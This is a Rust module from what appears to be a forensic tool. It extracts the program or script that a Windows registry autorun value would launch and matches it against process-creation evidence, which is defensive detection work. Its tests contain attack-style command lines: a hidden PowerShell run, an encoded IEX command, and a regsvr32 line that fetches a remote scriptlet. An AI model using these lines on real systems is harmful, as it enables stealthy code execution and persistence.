//! What a registry value would run: the program, and for script hosts the file they are
//! given. The "did it run" pass searches the evidence for these words and asks `ran_in`
//! whether a process creation ran the payload. Pure: no evidence is read here.

use crate::event::process::ProcessStart;
use serde::Serialize;

/// Endings that close a program or script path in value data.
const EXTENSIONS: &[&str] = &[
    ".exe", ".com", ".bat", ".cmd", ".ps1", ".vbs", ".vbe", ".js", ".jse", ".wsf", ".hta", ".dll",
    ".scr", ".cpl", ".msi",
];

/// Programs that run another file named in their arguments: for them the payload is that
/// file, so `rundll32.exe a.dll` is not "any rundll32 that ran".
const HOSTS: &[&str] = &[
    "rundll32.exe",
    "regsvr32.exe",
    "powershell.exe",
    "pwsh.exe",
    "cmd.exe",
    "wscript.exe",
    "cscript.exe",
    "mshta.exe",
    "msiexec.exe",
];

/// Shortest argument used to tell one script host run from another.
const MIN_MARKER: usize = 8;

/// What a registry value would run: the program, and for script hosts the file it is given
/// (or, without one, its longest argument).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Payload {
    /// The program's file name, lower-case (`evil.exe`, `rundll32.exe`).
    pub program: String,
    /// For script hosts, the file name of the script or library they run (`a.dll`), or else
    /// their longest argument of 8 characters or more (an encoded command), lower-case.
    pub argument: Option<String>,
}

impl Payload {
    /// The word searched for in the evidence: the argument when there is one.
    pub fn needle(&self) -> &str {
        self.argument.as_deref().unwrap_or(&self.program)
    }

    /// Whether a process start ran this payload.
    pub fn ran_in(&self, start: &ProcessStart) -> bool {
        let image = file_name(&start.image).to_ascii_lowercase();
        image == self.program
            && self
                .argument
                .as_ref()
                .is_none_or(|a| start.command_line.to_ascii_lowercase().contains(a.as_str()))
    }
}

fn file_name(path: &str) -> &str {
    path.rsplit(['\\', '/']).next().unwrap_or(path)
}

/// The first path in `text` and what follows it: quoted, a bare first word, or a path up to
/// a known extension.
fn first_path(text: &str) -> Option<(&str, &str)> {
    let text = text.trim_start_matches(|c: char| c.is_whitespace() || c == ',');
    if let Some(quoted) = text.strip_prefix('"') {
        let end = quoted.find('"').unwrap_or(quoted.len());
        return Some((quoted.get(..end)?, quoted.get(end + 1..).unwrap_or("")));
    }
    let first_word = text.find(char::is_whitespace).unwrap_or(text.len());
    if let Some(word) = text.get(..first_word).filter(|w| !w.contains(['\\', '/'])) {
        // A bare program name (`rundll32.exe`, `powershell`): it ends at the first space.
        return (!word.is_empty()).then(|| (word, text.get(first_word..).unwrap_or("")));
    }
    // A path, which may hold spaces (`C:\Program Files\…\agent.exe -k`): it ends at the
    // first known extension.
    let lower = text.to_ascii_lowercase();
    let by_extension = EXTENSIONS
        .iter()
        .filter_map(|ext| {
            lower
                .match_indices(ext)
                .map(|(at, _)| at + ext.len())
                .find(|&end| {
                    lower
                        .get(end..)
                        .and_then(|after| after.chars().next())
                        .is_none_or(|c| c.is_whitespace() || c == ',' || c == '"' || c == ';')
                })
        })
        .min();
    let end = by_extension.unwrap_or_else(|| text.find(char::is_whitespace).unwrap_or(text.len()));
    let (path, rest) = (text.get(..end)?, text.get(end..).unwrap_or(""));
    (!path.is_empty()).then_some((path, rest))
}

/// The payload a value's data would run, if it names one.
pub fn payload(data: &str) -> Option<Payload> {
    let (first, rest) = first_path(data)?;
    let mut program = file_name(first).to_ascii_lowercase();
    // A placeholder (`-`, `(value not set)`) names no program.
    if !program.chars().any(|c| c.is_ascii_alphanumeric()) {
        return None;
    }
    if !program.contains('.') {
        program.push_str(".exe");
    }
    let argument = if HOSTS.contains(&program.as_str()) {
        let words: Vec<&str> = rest
            .split(|c: char| c.is_whitespace() || c == ',')
            .map(|w| w.trim_matches(|c| c == '"' || c == '\''))
            .filter(|w| !w.starts_with(['-', '/']) || w.contains('\\'))
            .collect();
        // The file it runs, else its longest argument (an encoded command, a URL): either way
        // something only this payload's command line holds.
        words
            .iter()
            .map(|w| file_name(w).to_ascii_lowercase())
            .find(|w| EXTENSIONS.iter().any(|ext| w.ends_with(ext)))
            .or_else(|| {
                words
                    .iter()
                    .filter(|w| w.len() >= MIN_MARKER)
                    .max_by_key(|w| w.len())
                    .map(|w| w.to_ascii_lowercase())
            })
    } else {
        None
    };
    Some(Payload { program, argument })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn p(program: &str, argument: Option<&str>) -> Option<Payload> {
        Some(Payload {
            program: program.into(),
            argument: argument.map(Into::into),
        })
    }

    #[test]
    fn placeholders_name_no_program() {
        assert_eq!(payload("-"), None);
        assert_eq!(payload(""), None);
        assert_eq!(payload("\"\""), None);
    }

    #[test]
    fn payloads_from_value_data() {
        assert_eq!(
            payload("rundll32.exe a.dll, DllMain"),
            p("rundll32.exe", Some("a.dll"))
        );
        assert_eq!(
            payload("\"C:\\Program Files\\Vendor\\agent.exe\" -k run"),
            p("agent.exe", None)
        );
        assert_eq!(
            payload("C:\\Program Files\\Vendor\\agent.exe -k run"),
            p("agent.exe", None)
        );
        assert_eq!(payload("C:\\ProgramData\\evil.exe"), p("evil.exe", None));
        assert_eq!(
            payload("cmd.exe /c start C:\\Users\\Public\\a.bat"),
            p("cmd.exe", Some("a.bat"))
        );
        assert_eq!(
            payload("powershell -nop -w hidden -File C:\\Users\\Public\\x.ps1"),
            p("powershell.exe", Some("x.ps1"))
        );
        assert_eq!(
            payload("powershell -enc SQBFAFgA"),
            p("powershell.exe", Some("sqbfafga"))
        );
        assert_eq!(payload("powershell -enc SQBF"), p("powershell.exe", None));
        assert_eq!(
            payload("regsvr32 /s /u /i:http://x/a.sct scrobj.dll"),
            p("regsvr32.exe", Some("scrobj.dll"))
        );
        assert_eq!(
            payload("rundll32.exe C:\\x\\b.dll,Start"),
            p("rundll32.exe", Some("b.dll"))
        );
        assert_eq!(payload("   "), None);
        assert_eq!(payload("\"\" -x"), None);
        assert_eq!(payload("\"C:\\dir\\\""), None);
        assert_eq!(payload(""), None);
    }

    #[test]
    fn a_run_needs_the_program_and_its_argument() {
        let start = ProcessStart::sample;
        let dll = payload("rundll32.exe a.dll, DllMain").unwrap();
        assert!(dll.ran_in(&start(
            "C:\\Windows\\System32\\rundll32.exe",
            "rundll32.exe  C:\\x\\A.DLL,DllMain"
        )));
        assert!(!dll.ran_in(&start(
            "C:\\Windows\\System32\\rundll32.exe",
            "rundll32.exe shell32.dll,Control_RunDLL"
        )));
        let exe = payload("C:\\ProgramData\\evil.exe").unwrap();
        assert!(exe.ran_in(&start("C:\\ProgramData\\Evil.exe", "")));
        assert!(!exe.ran_in(&start("C:\\ProgramData\\notevil.exe", "")));
    }
}
